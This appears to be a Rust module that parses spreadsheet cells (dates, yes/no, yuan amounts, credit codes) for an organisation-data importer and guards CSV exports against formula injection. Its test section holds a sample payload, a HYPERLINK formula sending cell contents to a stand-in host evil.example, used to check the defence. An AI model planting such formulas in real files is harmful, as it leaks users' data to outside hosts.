//! One cell as read from a file, and the cell-level parsers (dates, yes/no, money, text).

use chrono::NaiveDate;
use gongyi_types::Fen;
use std::borrow::Cow;

/// A cell as the file holds it. CSV cells are always text; XLSX cells may be numbers, dates
/// or booleans; JSONL values may be numbers, booleans or (for `capital_fen`) integer fen.
#[derive(Debug, Clone, Copy, PartialEq)]
pub(crate) enum Cell<'a> {
    Empty,
    Text(&'a str),
    Number(f64),
    Date(NaiveDate),
    Bool(bool),
    /// An amount already in fen (JSONL `capital_fen`).
    Fen(i64),
    /// A value of the wrong JSON type; the text says what was expected.
    Wrong(&'static str),
}

impl Cell<'_> {
    /// Text cells are trimmed; an all-blank text is [`Cell::Empty`].
    pub(crate) fn text(s: &str) -> Cell<'_> {
        let t = s.trim();
        if t.is_empty() {
            Cell::Empty
        } else {
            Cell::Text(t)
        }
    }

    /// A CSV text cell: as [`Cell::text`], without the `'` that [`csv_safe`] put before a
    /// value starting like a formula (so an exported file imports back unchanged).
    pub(crate) fn csv_text(s: &str) -> Cell<'_> {
        let t = s.trim();
        match t.strip_prefix('\'') {
            Some(rest) if rest.starts_with(FORMULA_START) => Cell::text(rest),
            _ => Cell::text(t),
        }
    }

    pub(crate) fn is_empty(&self) -> bool {
        matches!(self, Cell::Empty)
    }

    /// The value as a person would read it (for error reports and text columns).
    pub(crate) fn display(&self) -> Cow<'_, str> {
        match *self {
            Cell::Empty => Cow::Borrowed(""),
            Cell::Text(s) => Cow::Borrowed(s),
            Cell::Number(x) => Cow::Owned(number_text(x)),
            Cell::Date(d) => Cow::Owned(d.to_string()),
            Cell::Bool(b) => Cow::Borrowed(if b { "是" } else { "否" }),
            Cell::Fen(f) => Cow::Owned(f.to_string()),
            Cell::Wrong(_) => Cow::Borrowed("(类型错误)"),
        }
    }
}

/// The first characters with which a spreadsheet program reads a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text value safe to open in a spreadsheet (OWASP "CSV injection"): a value starting like
/// a formula (`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`) gets a leading `'`, which Excel and WPS
/// show as text; plain numbers (`-12.50`, `+8610…`) are left alone.
pub fn csv_safe(v: &str) -> Cow<'_, str> {
    let number = |s: &str| {
        let d = s.trim_start_matches(['+', '-']);
        !d.is_empty() && d.chars().all(|c| c.is_ascii_digit() || c == '.')
    };
    if v.starts_with(FORMULA_START) && !number(v) {
        Cow::Owned(format!("'{v}"))
    } else {
        Cow::Borrowed(v)
    }
}

/// A number as text: integral values without a decimal point (`110105`, not `110105.0`).
pub(crate) fn number_text(x: f64) -> String {
    if x.fract() == 0.0 && x.abs() < 1e15 {
        format!("{}", x as i64)
    } else {
        format!("{x}")
    }
}

/// Parses a date written as `2019-03-05`, `2019/3/5`, `2019.3.5`, `2019年3月5日` or
/// `20190305`; a time part after a space or `T` is ignored.
pub(crate) fn parse_date(s: &str) -> Option<NaiveDate> {
    let s = s.trim();
    if let [y1, y2, y3, y4, b'-', m1, m2, b'-', d1, d2] = *s.as_bytes() {
        // the common ISO form, without splitting
        let digit = |b: u8| b.is_ascii_digit().then(|| u32::from(b - b'0'));
        let y = digit(y1)? * 1000 + digit(y2)? * 100 + digit(y3)? * 10 + digit(y4)?;
        let m = digit(m1)? * 10 + digit(m2)?;
        let d = digit(d1)? * 10 + digit(d2)?;
        return NaiveDate::from_ymd_opt(i32::try_from(y).ok()?, m, d);
    }
    let s = s.split([' ', 'T']).next().unwrap_or(s);
    if s.len() == 8 && s.bytes().all(|b| b.is_ascii_digit()) {
        let n = |r: std::ops::Range<usize>| s.get(r).and_then(|t| t.parse::<u32>().ok());
        return NaiveDate::from_ymd_opt(i32::try_from(n(0..4)?).ok()?, n(4..6)?, n(6..8)?);
    }
    let mut parts = s
        .split(['-', '/', '.', '年', '月'])
        .map(|p| p.trim_end_matches('日'));
    let y = parts.next()?;
    let m = parts.next()?;
    let d = parts.next()?;
    if parts.next().is_some_and(|rest| !rest.is_empty()) || y.len() != 4 {
        return None;
    }
    let digits =
        |t: &str, max: usize| (1..=max).contains(&t.len()) && t.bytes().all(|b| b.is_ascii_digit());
    if !digits(y, 4) || !digits(m, 2) || !digits(d, 2) {
        return None;
    }
    NaiveDate::from_ymd_opt(y.parse().ok()?, m.parse().ok()?, d.parse().ok()?)
}

/// A date from a number cell: `20190305` as digits, or an Excel serial day (1900 system)
/// between 1954 and 2119 for a date column that lost its date format.
pub(crate) fn date_from_number(x: f64) -> Option<NaiveDate> {
    if x.fract() != 0.0 {
        return None;
    }
    if (19_000_101.0..=29_991_231.0).contains(&x) {
        return parse_date(&number_text(x));
    }
    if (20_000.0..=80_000.0).contains(&x) {
        let epoch = NaiveDate::from_ymd_opt(1899, 12, 30)?;
        return epoch.checked_add_days(chrono::Days::new(x as u64));
    }
    None
}

/// Yes/no: `是/否`, `Y/N`, `yes/no`, `true/false`, `1/0`, `√/×` (case-insensitive); an empty
/// cell is no.
pub(crate) fn parse_bool(s: &str) -> Option<bool> {
    let t = s.trim();
    match t {
        "是" => return Some(true),
        "否" | "" => return Some(false),
        _ => {}
    }
    const YES: [&str; 8] = ["是", "y", "yes", "true", "1", "√", "✓", "✔"];
    const NO: [&str; 8] = ["否", "n", "no", "false", "0", "×", "✗", "✘"];
    if t.is_empty() || NO.iter().any(|n| t.eq_ignore_ascii_case(n)) {
        Some(false)
    } else if YES.iter().any(|y| t.eq_ignore_ascii_case(y)) {
        Some(true)
    } else {
        None
    }
}

/// A yuan amount from a number cell, through the same parser as text so the rules agree.
/// The shortest decimal of the double is tried first (exact for up to 15 significant digits);
/// binary noise below 0.0001 fen (`0.1 + 0.2`) is then rounded away.
pub(crate) fn money_from_number(x: f64) -> Result<Fen, gongyi_types::FenError> {
    Fen::parse_yuan(&format!("{x}")).or_else(|e| {
        let cents = x * 100.0;
        if (cents - cents.round()).abs() < 1e-4 {
            Fen::parse_yuan(&format!("{x:.2}"))
        } else {
            Err(e)
        }
    })
}

/// 统一社会信用代码 as typed by people: trimmed, full-width letters and digits to half-width,
/// upper-cased.
pub(crate) fn normalize_uscc(s: &str) -> Cow<'_, str> {
    let t = s.trim();
    if t.bytes()
        .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
    {
        return Cow::Borrowed(t);
    }
    Cow::Owned(
        t.chars()
            .map(|c| match c {
                '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
                c => c,
            })
            .filter(|c| !c.is_whitespace())
            .map(|c| c.to_ascii_uppercase())
            .collect(),
    )
}

/// Enum labels with full-width parentheses (`民办非企业单位（社会服务机构）`) as half-width.
pub(crate) fn normalize_label(s: &str) -> Cow<'_, str> {
    if s.contains(['（', '）']) {
        Cow::Owned(s.replace('（', "(").replace('）', ")"))
    } else {
        Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn d(y: i32, m: u32, day: u32) -> Option<NaiveDate> {
        NaiveDate::from_ymd_opt(y, m, day)
    }

    #[test]
    fn dates_in_every_accepted_form() {
        for s in [
            "2019-03-05",
            "2019/3/5",
            "2019年3月5日",
            "20190305",
            "2019.03.05",
            " 2019-3-5 ",
            "2019-03-05 00:00:00",
            "2019-03-05T00:00:00",
        ] {
            assert_eq!(parse_date(s), d(2019, 3, 5), "{s}");
        }
        for s in [
            "2019-02-30",
            "19-3-5",
            "2019-3",
            "2019/3/5/1",
            "abc",
            "",
            "201903050",
            "2019年3月",
        ] {
            assert_eq!(parse_date(s), None, "{s}");
        }
        assert_eq!(date_from_number(20190305.0), d(2019, 3, 5));
        assert_eq!(date_from_number(43529.0), d(2019, 3, 5));
        assert_eq!(date_from_number(12.5), None);
    }

    #[test]
    fn yes_no() {
        for s in ["是", "Y", "y", "TRUE", "1", "√"] {
            assert_eq!(parse_bool(s), Some(true), "{s}");
        }
        for s in ["否", "N", "false", "0", "", " "] {
            assert_eq!(parse_bool(s), Some(false), "{s}");
        }
        assert_eq!(parse_bool("也许"), None);
    }

    #[test]
    fn uscc_and_money_normalisation() {
        assert_eq!(normalize_uscc(" 53100000500019795a "), "53100000500019795A");
        assert_eq!(
            normalize_uscc("５３１０００００５０００１９７９５Ａ"),
            "53100000500019795A"
        );
        assert_eq!(money_from_number(0.1 + 0.2), Ok(Fen(30)));
        assert_eq!(money_from_number(1234.5), Ok(Fen(123450)));
        assert!(money_from_number(1.234).is_err());
        assert_eq!(number_text(110105.0), "110105");
    }
}

#[cfg(test)]
mod csv_injection_tests {
    use super::*;

    #[test]
    fn formulas_are_neutralized_and_read_back() {
        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")";
        let safe = csv_safe(evil);
        assert_eq!(safe, format!("'{evil}"));
        assert_eq!(Cell::csv_text(&safe), Cell::Text(evil));
        for plain in ["北京市朝阳区", "-12.50", "+8610", "'引号开头"] {
            assert_eq!(csv_safe(plain), plain);
            assert_eq!(Cell::csv_text(plain), Cell::Text(plain));
        }
        assert_eq!(csv_safe("@SUM(A1)"), "'@SUM(A1)");
    }
}
